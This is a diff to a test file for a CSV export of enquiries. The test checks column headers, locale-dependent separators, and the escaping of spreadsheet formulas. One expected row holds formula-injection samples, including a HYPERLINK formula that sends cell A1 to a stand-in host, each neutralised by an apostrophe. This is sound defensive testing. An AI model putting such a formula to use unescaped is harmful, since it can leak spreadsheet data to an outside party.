@@ -6,6 +6,7 @@ import { sql } from 'kysely';
 import { describe, expect, onTestFinished, test } from 'vitest';
 import { openDatabase } from '../../server/database/database.ts';
 import { copyErasures, readErasures } from '../../server/enquiries/erasures-file.ts';
+import { tinySite } from '../fixtures/tiny-site.ts';
 import { databaseFactory, databaseKinds } from '../helpers/databases.ts';
 import { addEnquiries, enquiriesTools, makeDatabase } from './enquiries-tools.ts';
 import { enquiry, makeFolder, postJson, startServer } from './start-server.ts';
@@ -25,11 +26,22 @@ describe('export', () => {
     expect(code).toBe(0);
     expect(out).toBe(
       [
-        '\uFEFF"reference","state","reason","formType","receivedAt","name","phone","email","registration","postcode","service","preferredDate","preferredTime","message"',
-        `"${references[0]}","received","","contact","2026-11-20 09:00","'=HYPERLINK(""//x.example?""&A1,""Ann"")","'+44 1632 960123","ann@example.org","'-1+1","ZZ1 2ZZ","","","","'@SUM(1)\nwith ""quotes"", commas; and café ☕"`,
+        '\uFEFF"reference","state","reason","formType","form","receivedAt","name","phone","email","registration","postcode","service","preferredDate","preferredTime","message"',
+        `"${references[0]}","received","","contact","","2026-11-20 09:00","'=HYPERLINK(""//x.example?""&A1,""Ann"")","'+44 1632 960123","ann@example.org","'-1+1","ZZ1 2ZZ","","","","'@SUM(1)\nwith ""quotes"", commas; and café ☕"`,
         '',
       ].join('\r\n'),
     );
+  });
+
+  test('separates cells by a semicolon where numbers have a comma, as Excel expects there', async () => {
+    const { url } = await makeDatabase({ message: 'a;b' });
+    const header = async (language: string) => {
+      const { out } = await enquiriesTools({ ...tinySite, language }).run(url, 'export');
+      expect(out).toContain('"a;b"\r\n');
+      return out.slice(0, 20);
+    };
+    expect(await header('es-ES')).toBe('\uFEFF"reference";"state"');
+    expect(await header('es-MX')).toBe('\uFEFF"reference","state"');
   });
 
   // ^ stands for the apostrophe; a spreadsheet may also separate cells by semicolons, or by tabs where text is pasted.
